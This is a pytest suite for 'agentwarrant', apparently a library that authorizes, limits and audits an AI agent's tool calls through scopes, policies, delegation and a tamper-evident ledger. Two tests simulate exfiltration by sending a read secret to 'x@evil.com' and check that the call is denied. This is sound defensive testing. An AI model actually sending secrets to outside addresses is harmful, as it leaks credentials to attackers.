"""The core Python API: guards, tasks, guarded functions, chaining through contextvars."""

from __future__ import annotations

import asyncio
import contextvars
import dataclasses
import datetime
import enum
import gc
import pathlib
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from typing import List

import pytest

import agentwarrant as aw
from agentwarrant.testing import ScriptedApprover, assert_allowed, assert_denied, assert_denied_async

OPS = dict(id="agent://acme/ops", owner="alice@acme.com", ceiling=["logs.read:*", "secrets.read:*", "email.send:*", "svc.restart:*"])


def ops() -> aw.Identity:
    return aw.Identity(**OPS)  # type: ignore[arg-type]


def triage() -> aw.Intent:
    return aw.Intent("triage the outage", scopes=["logs.read:*", "svc.restart:*"], max_impact="medium")


def make_guard(**options):  # type: ignore[no-untyped-def]
    guard = aw.Guard(**options)

    @guard.tool(impact="low", scopes=["logs.read:{service}"])
    def read_logs(service: str, lines: int = 10) -> str:
        return f"{lines} lines of {service}"

    @guard.tool(impact="medium", scopes=["svc.restart:{service}"])
    def restart(service: str) -> str:
        return read_logs(service)  # nested: a child of this call

    @guard.tool(impact="low", reads=["secret"], scopes=["secrets.read:{path}"])
    def read_secret(path: str) -> str:
        return "hunter2"

    @guard.tool(impact="medium", external=True, sink=True, scopes=["email.send:{to}"], destination_arg="to")
    async def send_email(to: str, body: str) -> str:
        await asyncio.sleep(0)
        return "sent"

    @guard.tool(impact="low", scopes=["logs.read:{service}"])
    def broken(service: str) -> str:
        raise KeyError(service)

    return guard, read_logs, restart, read_secret, send_email, broken


def test_guarded_call_runs_and_is_recorded():
    guard, read_logs, *_ = make_guard()
    with guard.task(ops(), triage()) as task:
        assert read_logs("api", lines=3) == "3 lines of api"
        assert aw.current_task() is task
    assert aw.current_task() is None
    kinds = [r["kind"] for r in guard.ledger.records()]
    assert kinds == ["task.begun", "grant.issued", "call.decided", "call.completed", "grant.revoked", "task.ended"]
    decided = guard.ledger.records()[2]
    assert decided["args"] == {"service": "api", "lines": 3}
    assert guard.ledger.verify().records == 6


def test_nested_calls_chain_under_the_running_call():
    guard, _read_logs, restart, *_ = make_guard()
    with guard.task(ops(), triage()):
        restart("api")
    decided = [r for r in guard.ledger.records() if r["kind"] == "call.decided"]
    assert [r["tool"] for r in decided] == ["restart", "read_logs"]
    assert decided[1]["parent_call_id"] == decided[0]["call_id"]
    assert decided[0]["parent_call_id"] is None


def test_depth_limit_counts_python_nesting():
    guard = aw.Guard(limits={"max_depth": 2})

    @guard.tool(impact="low")
    def recurse(n: int) -> int:
        return n if n == 0 else recurse(n - 1)

    with guard.task(ops(), "recurse"):
        assert recurse(1) == 0
        refusal = assert_denied(lambda: recurse(2), reason="depth_exceeded")
    assert isinstance(refusal, aw.Denied)


def test_exfiltration_is_denied_with_structured_reasons():
    guard, _, _, read_secret, send_email, _ = make_guard(approver=ScriptedApprover(then="approve"))
    with guard.task(ops(), triage()):
        read_secret("db/main")
        with pytest.raises(aw.Denied) as error:
            asyncio.run(send_email("x@evil.com", "hunter2"))
    refusal = error.value
    assert isinstance(refusal, aw.Refused) and isinstance(refusal, aw.GuardError) and isinstance(refusal, PermissionError)
    assert refusal.code == "exfiltration" and refusal.kind == "denied"
    assert refusal.reasons == ["exfiltration"] and refusal.has("exfiltration")
    assert refusal.details[0].code == "exfiltration"
    assert refusal.tool == "send_email" and refusal.call_id
    assert refusal.decision is not None and refusal.decision.effect == "deny"
    # SECURITY: the message names codes, never args.
    assert "x@evil.com" not in str(refusal) and "hunter2" not in str(refusal)


async def test_async_tools_and_concurrent_calls_chain_per_asyncio_task():
    guard = aw.Guard()

    @guard.tool(impact="low", scopes=["logs.read:{service}"])
    async def read_logs(service: str) -> str:
        await asyncio.sleep(0.01)
        return service

    @guard.tool(impact="low")
    async def fan_out(services: list) -> list:  # type: ignore[type-arg]
        return list(await asyncio.gather(*(read_logs(s) for s in services)))

    async with guard.task(ops(), triage()):
        assert await fan_out(["a", "b", "c"]) == ["a", "b", "c"]
    decided = [r for r in guard.ledger.records() if r["kind"] == "call.decided"]
    parent = decided[0]["call_id"]
    assert [r["parent_call_id"] for r in decided[1:]] == [parent] * 3


def test_tool_exception_is_recorded_and_reraised_unchanged():
    guard, *_, broken = make_guard()
    with guard.task(ops(), triage()):
        with pytest.raises(KeyError) as error:
            broken("api")
    assert error.value.args == ("api",)
    completed = [r for r in guard.ledger.records() if r["kind"] == "call.completed"][-1]
    assert completed["outcome"]["status"] == "error" and completed["outcome"]["error"] == "KeyError: 'api'"


def test_outside_any_task_is_refused_clearly_or_uses_the_default_task():
    guard, read_logs, *_ = make_guard()
    with pytest.raises(aw.NoActiveTask, match="outside any task") as error:
        read_logs("api")
    assert error.value.code == "no_task" and isinstance(error.value, RuntimeError)
    default = guard.use_default_task(ops(), triage())
    assert read_logs("api") == "10 lines of api"
    default.end()
    # The ended default task is still the task: the engine refuses the call, as in Rust.
    assert_denied(lambda: read_logs("api"), reason="grant_invalid")


def test_task_of_another_guard_is_not_used():
    guard, read_logs, *_ = make_guard()
    other = aw.Guard()
    with other.task(ops(), triage()):
        with pytest.raises(aw.NoActiveTask, match="another guard"):
            read_logs("api")


def test_ended_task_refuses_further_calls_in_the_engine_and_records_them_as_rust_does():
    guard, read_logs, *_ = make_guard()
    with guard.task(ops(), triage()) as task:
        pass
    assert task.ended
    # The call reaches the engine, which refuses it (the grant is revoked) and records it.
    refusal = assert_denied(lambda: task.authorize("read_logs", {"service": "api"}), reason="grant_invalid")
    assert isinstance(refusal, aw.Denied)
    decided = [r for r in guard.ledger.records() if r["kind"] == "call.decided"]
    assert decided[-1]["call_id"] == refusal.call_id
    assert decided[-1]["outcome"]["status"] == "denied"
    assert any(r.split(":")[0] == "grant_invalid" for r in decided[-1]["decision"]["reasons"])
    # A delegation is no call: it is a TaskError, as in Rust.
    helper = aw.Identity("agent://acme/helper", owner="alice@acme.com", ceiling=["logs.read:*"])
    with pytest.raises(aw.TaskError) as error:
        task.delegate(helper)
    assert error.value.code == "task_ended"


def test_delegated_subtask_is_narrowed_and_nests():
    guard, read_logs, *_ = make_guard()
    helper = aw.Identity("agent://acme/helper", owner="alice@acme.com", ceiling=["logs.read:*"])
    with guard.task(ops(), triage()) as task:
        with task.delegate(helper) as sub:
            assert aw.current_task() is sub
            read_logs("api")
            refusal = assert_denied(lambda: sub.authorize("restart", {"service": "api"}), reason="outside_ceiling")
            assert refusal.kind == "denied"
        assert aw.current_task() is task
    assert sub.grant_scopes == ["logs.read:*"]


def test_manual_authorize_and_complete():
    guard, *_ = make_guard()
    with guard.task(ops(), triage()) as task:
        warrant = task.authorize("read_logs", {"service": "api"})
        assert warrant.tool == "read_logs" and warrant.depth == 1 and not warrant.approved
        assert warrant.decision.effect == "allow"
        warrant.complete(labels=["untrusted"])
        with pytest.raises(aw.TaskError, match="already completed"):
            warrant.complete()
        assert task.run("read_logs", {"service": "db"}, lambda: 42) == 42


def test_a_tool_declared_while_tasks_run_can_be_called_at_once():
    guard = aw.Guard()
    helper = aw.Identity("agent://acme/helper", owner="alice@acme.com", ceiling=["logs.read:*"])
    with guard.task(ops(), triage()) as task:
        with task.delegate(helper) as sub:

            @guard.tool(impact="low", scopes=["logs.read:{service}"])
            def late(service: str) -> str:
                return service

            assert late("api") == "api"  # in the delegated task, current here
        assert late("db") == "db"
    decided = [r for r in guard.ledger.records() if r["kind"] == "call.decided"]
    assert [(r["tool"], r["outcome"]["status"]) for r in decided] == [("late", "allowed"), ("late", "allowed")]
    assert sub.ended


def test_declaring_a_tool_again_is_harmless_unless_the_spec_differs():
    guard = aw.Guard()
    spec = aw.ToolSpec("ping", impact="low", scopes=["logs.read:{service}"], result_labels=["untrusted"])
    guard.add_tool(spec)
    guard.add_tool(aw.ToolSpec("ping", impact="low", scopes=["logs.read:{service}"], result_labels=["untrusted"]))
    assert [t.name for t in guard.tools] == ["ping"]
    for other in (
        aw.ToolSpec("ping", impact="medium", scopes=["logs.read:{service}"], result_labels=["untrusted"]),
        aw.ToolSpec("ping", impact="low", scopes=["logs.read:{service}"]),
    ):
        with pytest.raises(aw.ConfigError, match="already declared with another spec") as error:
            guard.add_tool(other)
        assert error.value.code == "duplicate_tool"
    assert guard.spec("ping").impact == "low"  # type: ignore[union-attr]


def test_a_warrant_issued_before_the_task_ended_still_completes():
    guard, *_ = make_guard()
    with guard.task(ops(), triage()) as task:
        warrant = task.authorize("read_logs", {"service": "api"})
    assert task.ended
    warrant.complete()
    kinds = [r["kind"] for r in guard.ledger.records()]
    assert kinds[-3:] == ["grant.revoked", "task.ended", "call.completed"]
    assert guard.ledger.verify().records == len(kinds)


def test_common_python_values_reach_the_policy_as_json(tmp_path):
    @dataclasses.dataclass
    class Window:
        start: datetime.date
        services: frozenset  # type: ignore[type-arg]

    class Level(enum.Enum):
        DEBUG = "debug"

    guard = aw.Guard()

    @guard.tool(impact="low")
    def search(window: Window, level: Level, where: pathlib.Path, **filters: object) -> None: ...

    with guard.task(ops(), triage()):
        search(Window(datetime.date(2026, 1, 2), frozenset({"b", "a"})), Level.DEBUG, tmp_path, tags={"x"}, n=(1, 2))
    decided = [r for r in guard.ledger.records() if r["kind"] == "call.decided"][0]
    assert decided["args"] == {
        "window": {"start": "2026-01-02", "services": ["a", "b"]},
        "level": "debug",
        "where": str(tmp_path),
        "tags": ["x"],
        "n": [1, 2],
    }


def test_wrong_types_raise_type_error_not_panics():
    guard, read_logs, *_ = make_guard()
    with pytest.raises(TypeError):
        aw.ToolSpec("t", impact="low", reads="secret")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        aw.Identity(42, owner="a@b.c")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        guard.task("agent://x", triage())  # type: ignore[arg-type]
    with pytest.raises(aw.ConfigError) as bad_impact:
        aw.ToolSpec("t", impact="huge")  # type: ignore[arg-type]
    assert isinstance(bad_impact.value, ValueError) and bad_impact.value.code == "invalid_impact"
    with pytest.raises(aw.ConfigError, match="owner"):
        aw.Identity("agent://x", owner="agent://y")
    with pytest.raises(aw.ConfigError):
        aw.Guard(limits={"max_dpeth": 3})
    with guard.task(ops(), triage()) as task:
        with pytest.raises(TypeError, match="object"):
            read_logs(object())
        with pytest.raises(TypeError, match="must be a dict"):
            task.authorize("read_logs", ["api"])  # type: ignore[arg-type]
        with pytest.raises(TypeError, match="dict keys must be str"):
            task.authorize("read_logs", {1: "api"})  # type: ignore[dict-item]
        cyclic: list = []  # type: ignore[type-arg]
        cyclic.append(cyclic)
        with pytest.raises(ValueError, match="deeper"):
            task.authorize("read_logs", {"service": cyclic})
        with pytest.raises(ValueError, match="finite"):
            task.authorize("read_logs", {"service": float("nan")})
        with pytest.raises(TypeError, match="read_logs"):
            read_logs()  # type: ignore[call-arg]


def test_bad_policy_fails_at_start_up(tmp_path):
    (tmp_path / "bad.rego").write_text("package agentwarrant\nallow := \n")
    with pytest.raises(aw.PolicyError) as error:
        aw.Guard.from_policy_dir(tmp_path)
    assert error.value.code == "policy_compile" and isinstance(error.value, ValueError)
    with pytest.raises(aw.PolicyError, match="cannot read policy"):
        aw.Guard(policy_dir=tmp_path / "missing")


def test_custom_policy_dir(tmp_path):
    (tmp_path / "p.rego").write_text(
        'package agentwarrant\nimport rego.v1\ndeny contains "weekend_freeze" if input.call.tool == "restart"\nallow if count(deny) == 0\n'
    )
    guard = aw.Guard.from_policy_dir(tmp_path)
    guard.add_tool(aw.ToolSpec("restart", impact="medium"))
    with guard.task(ops(), triage()) as task:
        refusal = assert_denied(lambda: task.authorize("restart", {}), reason="weekend_freeze")
        assert refusal.code == "weekend_freeze"


def test_a_custom_rule_runs_on_the_rvm_only_when_it_cannot_raise(tmp_path):
    (tmp_path / "agentwarrant.rego").write_text(aw.DEFAULT_BUNDLE)
    rule = tmp_path / "refunds.rego"
    checked = "is_number(input.call.args.amount)\n\t"
    template = 'package agentwarrant\n\ndeny contains "refund_too_large" if {{\n\t{}input.call.args.amount > 500\n}}\n'
    rule.write_text(template.format(checked))
    fast = aw.Guard.from_policy_dir(tmp_path)
    assert fast.policy_evaluator == "rvm" and fast.interpreter_reason is None

    rule.write_text(template.format(""))
    slow = aw.Guard.from_policy_dir(tmp_path)
    assert slow.policy_evaluator == "interpreter"
    assert slow.interpreter_reason is not None
    assert slow.interpreter_reason.startswith(f"{rule}:4: `input.call.args.amount > 500`")
    assert aw.Guard().policy_evaluator == "rvm"


def _one_call_logged_to(path):  # type: ignore[no-untyped-def]
    """Runs one guarded call with a file ledger at `path`; the guard is gone on return."""
    guard, read_logs, *_ = make_guard(ledger=path)
    assert isinstance(guard.ledger, aw.FileLedger)
    with guard.task(ops(), triage()):
        read_logs("api")


def test_file_ledger_verifies_and_names_the_first_broken_record(tmp_path):
    path = tmp_path / "audit.jsonl"
    _one_call_logged_to(path)
    gc.collect()
    head = aw.verify(path)
    assert head.records == 6 and len(head.hash) == 64
    lines = path.read_text().splitlines(keepends=True)
    lines[2] = lines[2].replace('"api"', '"web"')
    path.write_text("".join(lines))
    with pytest.raises(aw.LedgerError) as error:
        aw.verify(path)
    assert error.value.code == "ledger_broken" and error.value.line == 3 and isinstance(error.value, OSError)
    with pytest.raises(aw.LedgerError) as error:
        aw.FileLedger(path)  # a broken ledger is not appended to
    assert error.value.code == "ledger_broken"


def test_a_ledger_file_has_one_writer_at_a_time(tmp_path):
    path = tmp_path / "audit.jsonl"
    ledger = aw.FileLedger(path)
    for second_writer in (lambda: aw.FileLedger(path), lambda: aw.Guard(ledger=path)):
        with pytest.raises(aw.LedgerError, match="open in another writer") as error:
            second_writer()
        assert isinstance(error.value, OSError) and error.value.path == str(path)
        assert error.value.code == "ledger_locked"
    # Two guards share one file through one FileLedger.
    first, second = aw.Guard(ledger=ledger), aw.Guard(ledger=ledger)
    for guard in (first, second):
        guard.add_tool(aw.ToolSpec("read_logs", impact="low", scopes=["logs.read:{service}"]))
        with guard.task(ops(), triage()) as task:
            task.run("read_logs", {"service": "api"}, lambda: None)
    assert ledger.verify().records == 12
    del ledger, first, second, guard, task
    gc.collect()
    assert aw.FileLedger(path).verify().records == 12  # free again once the writer is gone


def test_guard_is_shared_across_threads():
    guard, read_logs, *_ = make_guard()
    with guard.task(ops(), triage()) as task:
        context = contextvars.copy_context()

        def call(i: int) -> str:
            return context.copy().run(read_logs, f"svc{i}")

        with ThreadPoolExecutor(4) as pool:
            results = list(pool.map(call, range(40)))
    assert results == [f"10 lines of svc{i}" for i in range(40)]
    assert task.ended
    assert guard.ledger.verify().records == 4 + 80


def test_reason_codes_are_listed():
    codes = dict(aw.reason_codes())
    assert "exfiltration" in codes and "scope_drift" in codes


def test_allowed_helper():
    guard, read_logs, *_ = make_guard()
    with guard.task(ops(), triage()):
        assert assert_allowed(lambda: read_logs("api")) == "10 lines of api"


async def test_assert_denied_async():
    guard, _, _, read_secret, send_email, _ = make_guard(approver=ScriptedApprover(then="approve"))
    async with guard.task(ops(), triage()):
        read_secret("db/main")
        await assert_denied_async(send_email("x@evil.com", "k"), reason="exfiltration", kind="denied")


# A policy whose one evaluation runs until the guard's policy limit (time or instructions)
# stops it: a single native call long enough to see whether other threads run meanwhile.
RUNAWAY = """package agentwarrant
import rego.v1

deny contains "never" if {
	some i in numbers.range(1, 3000)
	some j in numbers.range(1, 3000)
	sprintf("%d-%d", [i, j]) == "never"
}

allow := true
"""


def test_gil_is_released_during_one_long_native_evaluation(tmp_path):
    (tmp_path / "runaway.rego").write_text(RUNAWAY)
    guard = aw.Guard(policy_dir=tmp_path, tools=[aw.ToolSpec("read_logs", impact="low")])
    ticks: List[float] = []
    stop = threading.Event()

    def spin() -> None:
        while not stop.is_set():
            ticks.append(time.perf_counter())

    spinner = threading.Thread(target=spin)
    with guard.task(ops(), triage()) as task:
        spinner.start()
        try:
            while not ticks:  # the spinner runs before the call starts
                time.sleep(0.001)
            started = time.perf_counter()
            # One call, one evaluation: the policy runs into its limit and the call is refused.
            assert_denied(lambda: task.authorize("read_logs"), reason="policy_error")
            ended = time.perf_counter()
        finally:
            stop.set()
            spinner.join()
    during = [t for t in ticks if started <= t <= ended]
    took = ended - started
    assert took > 0.04, f"the evaluation took {took * 1000:.1f} ms: too short to tell"
    # Held GIL: the spinner could not run for the whole evaluation, so the longest pause
    # between its ticks would be about `took`. Released: only the Python parts of the call
    # (and the interpreter's switch interval) pause it.
    gaps = [b - a for a, b in zip([started] + during, during + [ended])]
    assert len(during) > 100 and max(gaps) < took / 2, (
        f"{len(during)} ticks in {took * 1000:.1f} ms, longest pause {max(gaps) * 1000:.1f} ms"
    )


def test_kill_switch_reaches_running_tasks():
    guard, read_logs, *_ = make_guard()
    with guard.task(ops(), triage()):
        read_logs("api")
        guard.disable_identity(ops())
        refusal = assert_denied(lambda: read_logs("api"))
        guard.enable_identity("agent://acme/ops")
        read_logs("api")
    assert refusal.kind == "denied" and refusal.reasons


@pytest.mark.parametrize("cls", [aw.ToolSpec, aw.Identity, aw.Intent])
def test_help_explains_each_field_and_its_default(cls: type) -> None:
    import inspect

    signature = inspect.signature(cls)
    assert "Ellipsis" not in str(signature)
    doc = cls.__doc__ or ""
    for name, parameter in signature.parameters.items():
        assert f"``{name}``" in doc, f"{cls.__name__} does not explain `{name}`"
        if name in dir(cls):
            assert getattr(cls, name).__doc__, f"{cls.__name__}.{name} has no docstring"
    assert "reads=()" in str(inspect.signature(aw.ToolSpec))


def test_a_task_can_have_limits_of_its_own():
    guard = aw.Guard(limits={"max_calls": 1})
    calls = []

    @guard.tool(impact="low", scopes=["logs.read:{service}"])
    def read_logs(service: str) -> str:
        calls.append(service)
        return service

    ops = aw.Identity("agent://acme/ops", owner="alice@acme.com", ceiling=["logs.read:*"])
    intent = aw.Intent("triage", scopes=["logs.read:*"])
    with guard.task(ops, intent, limits={"max_calls": 3}, grant_ttl=3600):
        for service in ("a", "b", "c"):
            read_logs(service)
        with pytest.raises(aw.Denied) as refused:
            read_logs("d")
    assert refused.value.has("call_budget_exceeded") and calls == ["a", "b", "c"]
    for bad in ({"max_cals": 3}, {"max_calls": -1}, {"max_calls": "3"}):
        with pytest.raises(aw.ConfigError) as error:
            guard.task(ops, intent, limits=bad)
        assert error.value.code == "invalid_limits"
    with pytest.raises(aw.ConfigError):
        guard.task(ops, intent, grant_ttl=0)
